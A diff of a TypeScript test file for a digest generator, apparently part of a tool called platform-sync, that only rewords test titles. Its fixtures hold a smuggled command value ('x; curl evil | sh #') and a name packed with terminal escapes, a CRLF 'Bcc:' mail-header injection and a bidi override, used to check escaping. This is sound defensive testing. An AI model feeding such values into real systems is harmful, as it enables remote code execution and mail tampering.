@@ -48,7 +48,7 @@ const links = (...valid: readonly string[]) => ({
   links: valid.map((each, index) => ({ resource: { type: 'DATA_SOURCE', id: `d${index}` }, valid: each })),
 });
 
-test('what a manifest says is quoted as one word of the command in a digest', async () => {
+test('values from a manifest are quoted as one word of the command in a digest', async () => {
   const key = changesKey('calculations', tuesday, monday.id, '0');
   const changes = { against: 'x; curl evil | sh #', added: 1, removed: 0, changed: 0, key };
 
@@ -57,7 +57,7 @@ test('what a manifest says is quoted as one word of the command in a digest', as
   expect(text).toContain(`platform-sync diff calculations "x; curl evil | sh #" ${tuesday.id}`);
 });
 
-test('a digest says what changed in words, what is newly broken first', async () => {
+test('a digest describes changes in words, beginning with what is newly broken', async () => {
   const { subject, text } = await digestOf(
     [
       { change: 'added', key: '1', after: record('1', 'New') },
@@ -127,7 +127,7 @@ test('a digest says what changed in words, what is newly broken first', async ()
   ]);
 });
 
-test('however much changed, a digest has less than eighty lines', async () => {
+test('whatever the number of changes, a digest has less than eighty lines', async () => {
   const names = ['a', 'b', 'c', 'd', 'e'];
   const of = (value: number) => Object.fromEntries(names.map((name) => [name, value]));
   const { subject, text } = await digestOf(
@@ -153,7 +153,7 @@ test('however much changed, a digest has less than eighty lines', async () => {
   expect(subject).toMatch(/^[ -~]{1,99}$/);
 });
 
-test('names can do nothing to a terminal or a mail', async () => {
+test('names cannot affect a terminal or a mail', async () => {
   const hostile = '\u001b[31mred\u0007\r\nBcc: a@b\u202ereversed https://evil.example \ud800\uffff';
   const { text } = await digestOf([
     { change: 'added', key: 'k\n', after: record('1', hostile, links('\u001b[2J')) },
@@ -166,7 +166,7 @@ test('names can do nothing to a terminal or a mail', async () => {
   expect(text.split('\n').filter((line) => line.startsWith('Bcc'))).toEqual([]);
 });
 
-test('a first run, one that nothing changed in, and one that was forced say so', async () => {
+test('a digest says if a run is the first, if it has no changes, and if it was forced', async () => {
   const first = await digestOf([], { changes: null });
   const same = await digestOf([]);
   const forced = await digestOf([], {
@@ -183,7 +183,7 @@ test('a first run, one that nothing changed in, and one that was forced say so',
   expect(forced.text).toContain('It is not proved to be complete: 3 pages stayed degraded.');
 });
 
-test('a run of the other source that is damaged holds up no digest', async () => {
+test('a damaged run of the other source does not stop the digest', async () => {
   const { text } = await digestOf([], {}, (store) => store.put('cards/latest.json', Buffer.from('{}')));
 
   expect(text).toContain('What is broken is unknown: see the faults in the report.');
